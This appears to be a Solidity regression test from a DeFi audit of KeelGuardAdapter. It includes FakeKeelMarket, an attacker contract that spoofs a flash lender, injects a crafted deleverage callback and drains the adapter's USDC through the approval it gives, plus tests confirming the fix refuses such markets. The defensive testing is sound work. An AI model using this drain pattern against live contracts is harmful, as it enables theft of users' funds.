// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {EngineBase} from "../engine/EngineBase.sol";
import {UniswapV2Fixture} from "../periphery/UniswapV2Fixture.sol";
import {ISwapAdapter} from "../../src/periphery/interfaces/ISwapAdapter.sol";
import {IUniswapV2Factory} from "../../src/periphery/interfaces/IUniswapV2Factory.sol";
import {UniswapV2Adapter} from "../../src/periphery/UniswapV2Adapter.sol";
import {KeelAutomation} from "../../src/periphery/guard/KeelAutomation.sol";
import {KeelGuardAdapter, IKeelMarketRegistry} from "../../src/periphery/guard/KeelGuardAdapter.sol";
import {GuardAdapterBase} from "../../src/periphery/guard/GuardAdapterBase.sol";
import {CollateralInfo} from "../../src/interfaces/IKeelMarket.sol";
import {KeelOracle} from "../../src/oracle/KeelOracle.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IERC3156FlashBorrower} from "@openzeppelin/contracts/interfaces/IERC3156FlashBorrower.sol";

/// @notice An attacker's "Keel market": it answers the adapter's reads so a Deleverage looks due, and when the adapter
/// asks it for a flash loan it calls the adapter back with a Job of its own making.
contract FakeKeelMarket {
    address public immutable attacker;
    IERC20 public immutable usdc;
    IERC20 public immutable weth;
    address internal immutable real;
    bool internal done;

    constructor(address attacker_, IERC20 usdc_, IERC20 weth_, address real_) {
        (attacker, usdc, weth, real) = (attacker_, usdc_, weth_, real_);
    }

    function asset() external view returns (address) {
        return address(usdc);
    }

    function vaultOwner(uint256) external view returns (address) {
        return attacker;
    }

    function isOperator(address, address) external pure returns (bool) {
        return true;
    }

    function collateralOf(uint256, address) external pure returns (uint256) {
        return 1e18;
    }

    function debtOf(uint256) external view returns (uint256) {
        return done ? 0 : 1_000e6;
    }

    function oracle() external view returns (KeelOracle) {
        return FakeKeelMarket(real).oracle();
    }

    function collateralInfo(address a) external view returns (CollateralInfo memory) {
        return FakeKeelMarket(real).collateralInfo(a);
    }

    function flashFeeBps() external pure returns (uint256) {
        return 0;
    }

    /// @dev Before: HF 1.02 (a Deleverage at 1.1 is due). After: no debt, the same collateral (no "loss").
    function vaultHealth(uint256) external view returns (uint256, uint256, uint256, uint256, uint256) {
        return (3_000e18, 0, 2_550e18, done ? 0 : 2_500e18, done ? type(uint256).max : 1.02e18);
    }

    /// @dev The adapter's flash loan: call it back with a crafted Deleverage of `type(uint128).max` "borrowed" USDC.
    function flashLoan(IERC3156FlashBorrower receiver, address, uint256, bytes calldata) external returns (bool) {
        GuardAdapterBase.Job memory job = GuardAdapterBase.Job(
            GuardAdapterBase.Op.Deleverage,
            attacker,
            address(weth),
            address(usdc),
            1e12,
            0,
            0,
            abi.encode(this, 1, weth)
        );
        receiver.onFlashLoan(address(receiver), address(usdc), type(uint128).max, 0, abi.encode(job));
        done = true;
        return true;
    }

    /// @dev "Repay": takes every USDC the adapter holds, on the approval the adapter just gave.
    function repay(uint256, uint256) external returns (uint256, uint256) {
        usdc.transferFrom(msg.sender, attacker, usdc.balanceOf(msg.sender));
        return (0, 0);
    }

    /// @dev "Withdraw": a dust of WETH so the adapter's sale succeeds.
    function withdrawCollateral(uint256, address, uint256 amount, address to) external {
        weth.transfer(to, amount);
    }
}

/// @notice Audit 2026-12-01: KeelGuardAdapter takes the market from the rule's position bytes and trusts it as the
/// flash lender. The proof of concept is now a regression test expecting the refusal.
contract KeelGuardAdapterMarketAudit is EngineBase {
    address internal constant ATTACKER = address(0xBAD);
    KeelAutomation internal guard;
    KeelGuardAdapter internal keel;

    function setUp() public override {
        super.setUp();
        IUniswapV2Factory factory = UniswapV2Fixture.deployFactory();
        UniswapV2Fixture.seed(factory, weth, 1_000e18, usdc, 3_000_000e6);
        guard = new KeelAutomation();
        keel = new KeelGuardAdapter(
            address(guard),
            ISwapAdapter(address(new UniswapV2Adapter(factory))),
            IKeelMarketRegistry(address(riskAdmin))
        );
    }

    /// @notice FINDING 3 (Low), fixed: a position naming a market the KeelRiskAdmin does not know is refused, so an
    /// attacker's contract never becomes the adapter's flash lender (the PoC drained a stray 5,000 USDC and kept a
    /// standing allowance).
    function test_fakeMarket_isRefused_andTheAdapterKeepsItsBalance() public {
        FakeKeelMarket fake = new FakeKeelMarket(ATTACKER, usdc, weth, address(market));
        weth.mint(address(fake), 1e12);
        usdc.mint(address(keel), 5_000e6);
        bytes memory pos = abi.encode(address(fake), uint256(1), address(weth));
        vm.prank(ATTACKER);
        vm.expectRevert(abi.encodeWithSelector(KeelGuardAdapter.UnknownMarket.selector, address(fake)));
        guard.setRule(
            keel,
            pos,
            KeelAutomation.Kind.Deleverage,
            KeelAutomation.Params(1.1e18, 1.2e18, 0, 0, 100, 0, block.timestamp + 30 days)
        );
        vm.prank(ATTACKER);
        vm.expectRevert(abi.encodeWithSelector(KeelGuardAdapter.UnknownMarket.selector, address(fake)));
        keel.snapshot(pos);
        assertEq(usdc.balanceOf(address(keel)), 5_000e6, "the adapter keeps its balance");
        assertEq(usdc.allowance(address(keel), address(fake)), 0, "no allowance");
    }

    /// @notice A flash-loan callback the adapter did not ask for is refused (no lender expected).
    function test_unsolicitedCallback_isRefused() public {
        GuardAdapterBase.Job memory job = GuardAdapterBase.Job(
            GuardAdapterBase.Op.Deleverage, ATTACKER, address(weth), address(usdc), 1, 0, 0, abi.encode(market, 1, weth)
        );
        vm.prank(address(market));
        vm.expectRevert();
        keel.onFlashLoan(address(keel), address(usdc), 1e6, 0, abi.encode(job));
    }
}
